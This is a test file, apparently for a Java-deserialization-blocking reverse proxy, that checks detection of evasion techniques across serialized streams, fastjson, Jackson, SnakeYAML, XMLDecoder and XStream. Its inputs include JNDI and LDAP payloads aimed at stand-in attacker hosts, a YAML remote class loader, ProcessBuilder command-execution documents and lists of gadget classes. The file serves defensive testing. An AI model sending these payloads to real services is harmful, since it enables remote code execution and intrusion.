/**
 * Evasion checklist D (items 51-64): Java serialization and the JSON, YAML
 * and XML formats that instantiate Java classes, through the real engine.
 * Streams come from test/fixtures/java (JDK 17 ObjectOutputStream output,
 * generate.sh) or the Java tests' stream builder; the parser-level tests are
 * in test/engine/java/*.test.ts.
 *
 * Not applicable here:
 * - E56 encrypted carriers (Shiro rememberMe AES-CBC/GCM, encrypted JSF
 *   ViewState): the payload is ciphertext; without the key there is no
 *   structure to inspect. Trial decryption with leaked default keys is a
 *   possible future detector, not request inspection as specified.
 * - E57 non-HTTP transports (RMI JRMI, T3, IIOP on other ports): deserwall
 *   is an HTTP reverse proxy; those protocols never reach it.
 */
import { describe, expect, it } from 'vitest';
import { rewriteOverlong, stream, StreamBuilder } from '../java/helpers.js';
import { b64, blocked, JSON_CT, RPC, rules } from './harness.js';

const SER = { contentType: 'application/x-java-serialized-object' };

/** A minimal stream: TC_OBJECT of a serializable class with no fields. */
const objectOf = (cls: string): Buffer => new StreamBuilder().u8(0x73).classDesc(cls, 0x02).build();

describe('D. Java serialization', () => {
  it('E51: overlong 2- and 3-byte modified UTF-8 in class names', () => {
    for (const width of [2, 3] as const) {
      const s = rewriteOverlong(stream('cc6-like'), width);
      expect(rules(s, SER), `width ${width}`).toEqual(expect.arrayContaining(['DW-JAVA-002', 'DW-JAVA-005']));
      expect(rules(JSON.stringify({ state: b64(s) }), { contentType: JSON_CT }), `width ${width}`).toContain('DW-JAVA-002');
      expect(rules(rewriteOverlong(stream('urldns'), width), RPC)).toContain('DW-JAVA-003');
    }
  });

  it('E52: gadget chains absent from old deny lists (CommonsBeanutils without CC, C3P0, AspectJWeaver, Vaadin, Click, ROME, JSON1)', () => {
    expect(rules(stream('cb1-like'), SER)).toContain('DW-JAVA-002');
    for (const cls of ['com.mchange.v2.c3p0.PoolBackedDataSource', 'org.aspectj.weaver.tools.cache.SimpleCache$StoreableCachingMap', 'com.vaadin.data.util.NestedMethodProperty', 'org.apache.click.control.Column$ColumnComparator', 'com.sun.syndication.feed.impl.ObjectBean', 'net.sf.json.JSONObject']) {
      expect(rules(objectOf(cls), SER), cls).toContain('DW-JAVA-002');
      expect(rules(objectOf(cls), RPC), cls).toContain('DW-JAVA-003');
    }
  });

  it('E53: class names only in proxy interface lists or reached through back-references', () => {
    expect(rules(stream('jrmp-proxy'), SER)).toContain('DW-JAVA-002');
    expect(rules(stream('jrmp-proxy'), RPC)).toContain('DW-JAVA-003');
    expect(rules(stream('rpc-arraylist-gadget'), RPC)).toContain('DW-JAVA-003');
    expect(rules(stream('arraylist-dtos'), RPC)).toEqual([]);
  });

  it('E54: TC_RESET, block data (split into segments) and long strings break naive string scanning', () => {
    expect(rules(stream('nested-blockdata-gadget'), SER)).toContain('DW-JAVA-002');
    expect(rules(stream('nested-blockdata-gadget'), RPC)).toContain('DW-JAVA-003');
    expect(rules(stream('reset'), RPC)).toEqual([]);
    expect(rules(stream('blockdata-toplevel'), RPC)).toEqual([]);
  });

  it('E55: bytecode in byte arrays (TemplatesImpl _bytecodes) and serialized streams nested in byte arrays', () => {
    expect(rules(stream('templates'), SER)).toEqual(expect.arrayContaining(['DW-JAVA-002', 'DW-JAVA-006']));
    expect(rules(stream('nested-bytearray-gadget'), SER)).toContain('DW-JAVA-002');
    expect(rules(stream('nested-bytearray-gadget'), RPC)).toContain('DW-JAVA-003');
  });

  it('E58: fastjson class-name wrappers Lcom.x;, LLcom.x;;, [com.x', () => {
    for (const name of ['Lcom.sun.rowset.JdbcRowSetImpl;', 'LLcom.sun.rowset.JdbcRowSetImpl;;', '[com.sun.rowset.JdbcRowSetImpl']) {
      const body = JSON.stringify({ '@type': name, dataSourceName: 'ldap://attacker.example/x', autoCommit: true });
      expect(rules(body, { contentType: JSON_CT }), name).toContain('DW-JSONPOLY-001');
    }
  });

  it('E59: fastjson java.lang.Class cache poisoning and expectClass abuse (AutoCloseable, Throwable)', () => {
    const poison = '{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example/x","autoCommit":true}}';
    expect(rules(poison, { contentType: JSON_CT })).toContain('DW-JSONPOLY-001');
    // The expectClass forms repeat @type in one object: strict JSON refuses the duplicate key and the
    // lenient reader still names the class.
    const auto = '{"x":{"@type":"java.lang.AutoCloseable","@type":"com.mysql.jdbc.JDBC4Connection","hostToConnectTo":"attacker.example","portToConnectTo":3306}}';
    expect(rules(auto, { contentType: JSON_CT })).toContain('DW-PROTOCOL-102');
    expect(blocked(auto, { contentType: 'text/plain' })).toBe(true);
    const thr = '{"@type":"java.lang.Exception","@type":"org.openqa.selenium.chrome.ChromeDriver"}';
    expect(blocked(thr, { contentType: JSON_CT })).toBe(true);
  });

  it('E60: fastjson lenient syntax: single quotes, unquoted keys, comments, extra commas, \\x40type', () => {
    for (const body of [
      "{'@type':'com.sun.rowset.JdbcRowSetImpl','dataSourceName':'ldap://a/b','autoCommit':true}",
      '{@type:"com.sun.rowset.JdbcRowSetImpl",dataSourceName:"ldap://a/b"}',
      '{/*x*/"@type"/*y*/:"com.sun.rowset.JdbcRowSetImpl",,"dataSourceName":"ldap://a/b"}',
      '{"\\x40type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://a/b"}',
    ]) {
      expect(rules(body, { contentType: 'text/plain' }), body).toContain('DW-JSONPOLY-001');
      expect(blocked(body, { contentType: JSON_CT }), body).toBe(true);
    }
  });

  it('E61: Jackson default typing ["fqcn", {...}] without @type, @class and minimal @c', () => {
    expect(rules('["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://a/b","autoCommit":true}]', { contentType: JSON_CT })).toContain('DW-JSONPOLY-002');
    expect(rules('{"obj":["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://a/b"}]}', { contentType: JSON_CT })).toContain('DW-JSONPOLY-002');
    expect(rules('{"@class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://a/b"}', { contentType: JSON_CT })).toContain('DW-JSONPOLY-001');
    expect(rules('{"@c":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://a/b"}', { contentType: JSON_CT })).toContain('DW-JSONPOLY-001');
    expect(rules('["com.example.shop.OrderDto",{"id":1}]', { contentType: JSON_CT })).toEqual([]);
  });

  it('E62: classes missing from Jackson deny lists, and shaded copies (oadd.*, com.newrelic.agent.deps.*)', () => {
    for (const cls of ['oadd.org.apache.xalan.lib.sql.JNDIConnectionPool', 'com.newrelic.agent.deps.ch.qos.logback.core.db.JNDIConnectionSource', 'org.apache.xbean.propertyeditor.JndiConverter', 'com.zaxxer.hikari.HikariConfig']) {
      expect(rules(JSON.stringify({ '@type': cls, x: 'ldap://a/b' }), { contentType: JSON_CT }), cls).toContain('DW-JSONPOLY-001');
    }
  });

  it('E63: SnakeYAML global tags in verbatim, %TAG and %xx-escaped forms', () => {
    const forms = [
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://a/"]]]]\n',
      '!<tag:yaml.org,2002:javax.script.ScriptEngineManager> [!<tag:yaml.org,2002:java.net.URLClassLoader> [[!<tag:yaml.org,2002:java.net.URL> ["http://a/"]]]]\n',
      '%TAG !j! tag:yaml.org,2002:javax.script.\n---\n!j!ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://a/"]]]]\n',
      '!!javax.script.%53criptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://a/"]]]]\n',
    ];
    for (const y of forms) expect(rules(y, { contentType: 'application/yaml' }), y).toContain('DW-YAML-002');
  });

  it('E64: XMLDecoder and XStream documents with class names written as character references', () => {
    const decoder = '<java version="1.8" class="java&#x2E;beans.XMLDecoder"><object class="java&#x2E;lang&#46;ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>';
    expect(rules(decoder, { contentType: 'application/xml' })).toContain('DW-JAVA-010');
    const xstream = '<sorted-set><dynamic-proxy><interface>java&#x2E;lang.Comparable</interface><handler class="java.beans&#x2E;EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>';
    expect(blocked(xstream, { contentType: 'application/xml' })).toBe(true);
    expect(rules(xstream, { contentType: 'application/xml' }).some((r) => r.startsWith('DW-JAVA-01'))).toBe(true);
  });
});
